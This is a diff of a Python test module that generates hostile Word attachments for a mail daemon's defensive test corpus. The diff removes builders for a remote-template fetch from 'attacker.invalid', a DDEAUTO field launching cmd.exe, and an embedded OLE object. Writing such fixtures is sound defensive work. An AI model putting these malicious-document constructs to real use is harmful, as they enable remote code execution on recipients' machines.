@@ -1,12 +1,12 @@
-"""More hostile Word attachments: zip tricks, XML tricks, active content, lookalike formats.
+"""More hostile Word attachments: zip tricks, XML tricks, lookalike formats.
 
 The first corpus (`tests/hostile_corpus.py`) covers the classic bombs; these are what comes
 next in the literature and in real mailboxes: archive members that climb out of the archive,
 members encrypted or compressed with methods no Word writes, a bzip2 stream that inflates a
-million times, XML that includes other files or nests beyond any parser's stack, remote
-templates and DDE fields (the documents that attack Word itself), and other formats wearing a
-.docx name. Each builder returns the bytes of one attachment; `tests/hostile_corpus.CORPUS`
-names them with the code the daemon must give.
+million times, XML that includes other files or nests beyond any parser's stack, and other
+formats wearing a .docx name (documents with active content are in `hostile_active`). Each
+builder returns the bytes of one attachment; `tests/hostile_corpus.CORPUS` names them with the
+code the daemon must give.
 """
 
 from __future__ import annotations
@@ -35,7 +35,7 @@ from tests.hostile_blocks import (
 
 _DOCUMENT = "word/document.xml"
 _EOCD = b"PK\x05\x06"
-FORM_SEEDS = range(601, 606)  # the referrals inside the files that are read as forms
+FORM_SEEDS = range(601, 603)  # the referrals inside the files that are read as forms
 
 
 def _document(docx: bytes | None = None) -> str:
@@ -187,36 +187,6 @@ def no_content_types() -> bytes:
     return build_zip([(n, d) for n, d in parts_of(base_docx()) if n != "[Content_Types].xml"])
 
 
-# -- active content: documents that attack Word ----------------------------------------------
-
-
-def remote_template() -> bytes:
-    """settings.xml attaching a template from a web server (Word fetches it on opening)."""
-    rels = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
-            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type='
-            '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
-            'attachedTemplate" Target="http://attacker.invalid/t.dotm" TargetMode="External"/>'
-            "</Relationships>")
-    return build_zip([*parts_of(referral_docx(603)),
-                      ("word/_rels/settings.xml.rels", rels.encode())])
-
-
-def dde_field() -> bytes:
-    """A DDEAUTO field that would ask Word to run cmd.exe."""
-    field = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>'
-             ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
-             '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
-    form = referral_docx(604)
-    return replace_part(form, _DOCUMENT,
-                        _document(form).replace("<w:body>", f"<w:body>{field}", 1).encode())
-
-
-def ole_object() -> bytes:
-    """An embedded OLE object (oleObject1.bin) of the kind that carries executables."""
-    return build_zip([*parts_of(referral_docx(605)),
-                      ("word/embeddings/oleObject1.bin", _ole_container())])
-
-
 # -- lookalikes and broken containers ----------------------------------------------------------
 
 
@@ -255,15 +225,6 @@ def ole_fat_loop() -> bytes:
     for n in range(4):
         struct.pack_into("<I", data, fat + 4 * n, n)  # each sector points at itself
     return bytes(data)
-
-
-def _ole_container() -> bytes:
-    """A tiny OLE container with a stream named like an embedded executable's."""
-    ole = bytearray(encrypted(spin_count=1))
-    slot = ole.index("EncryptedPackage".encode("utf-16-le"))
-    name = "\x01Ole10Native".encode("utf-16-le")
-    ole[slot:slot + len(name)] = name
-    return bytes(ole)
 
 
 def minimal_with_macro_name() -> bytes:
